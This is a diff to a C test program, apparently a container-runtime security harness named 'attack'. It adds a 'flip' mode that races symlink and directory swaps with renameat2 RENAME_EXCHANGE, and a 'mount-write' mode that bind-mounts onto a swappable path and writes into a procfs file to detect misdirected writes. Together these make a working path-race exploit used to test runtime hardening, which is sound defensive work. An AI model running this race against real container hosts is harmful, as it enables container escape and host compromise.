@@ -17,7 +17,9 @@
 #include <sys/personality.h>
 #include <sys/prctl.h>
 #include <sys/stat.h>
+#include <sys/mount.h>
 #include <sys/syscall.h>
+#include <sys/statfs.h>
 #include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
@@ -181,11 +183,55 @@ static int notify_wait(void) {
     return 0;
 }
 
+/* The attacker of a shared volume: swaps two names (a directory and a
+ * symlink) with renameat2(RENAME_EXCHANGE) as fast as it can, for at most
+ * SECONDS, so that whoever resolves A sees either. */
+static int flip(const char *a, const char *b, int seconds) {
+    time_t end = time(NULL) + seconds;
+    long swaps = 0;
+    while (time(NULL) < end) {
+        for (int i = 0; i < 1000; i++)
+            if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0)
+                swaps++;
+    }
+    printf("swaps %ld\n", swaps);
+    return 0;
+}
+
+#define PROC_MAGIC 0x9fa0
+
+/* What a runtime resolving paths naively does: bind-mount SRC on DEST (a
+ * path the attacker may swap for a symlink) and then write VALUE into the
+ * procfs file FILE by path, like os.WriteFile. Tries up to TRIES times and
+ * reports the attempt at which /proc stopped being procfs (the write then
+ * went into the volume), or -1. */
+static int mount_write(const char *src, const char *dest, const char *file, const char *value, int tries) {
+    for (int i = 0; i < tries; i++) {
+        if (mount(src, dest, NULL, MS_BIND, NULL) < 0) continue;
+        int fd = open(file, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
+        if (fd >= 0) {
+            (void)!write(fd, value, strlen(value));
+            close(fd);
+        }
+        struct statfs st;
+        if (statfs("/proc", &st) == 0 && st.f_type != PROC_MAGIC) {
+            printf("landed %d\n", i);
+            return 0;
+        }
+    }
+    printf("landed -1\n");
+    return 0;
+}
+
 int main(int argc, char **argv) {
     if (argc >= 2 && strcmp(argv[1], "sys") == 0) return sys_probes();
     if (argc >= 2 && strcmp(argv[1], "caps") == 0) return cap_probes();
     if (argc >= 4 && strcmp(argv[1], "exe") == 0) return exe_attack(argv[2], atoi(argv[3]));
     if (argc >= 2 && strcmp(argv[1], "notify-wait") == 0) return notify_wait();
-    fprintf(stderr, "usage: attack sys | caps | exe MARKER SECONDS | notify-wait\n");
+    if (argc >= 5 && strcmp(argv[1], "flip") == 0) return flip(argv[2], argv[3], atoi(argv[4]));
+    if (argc >= 7 && strcmp(argv[1], "mount-write") == 0)
+        return mount_write(argv[2], argv[3], argv[4], argv[5], atoi(argv[6]));
+    fprintf(stderr, "usage: attack sys | caps | exe MARKER SECONDS | notify-wait | flip A B SECONDS"
+                    " | mount-write SRC DEST FILE VALUE TRIES\n");
     return 2;
 }
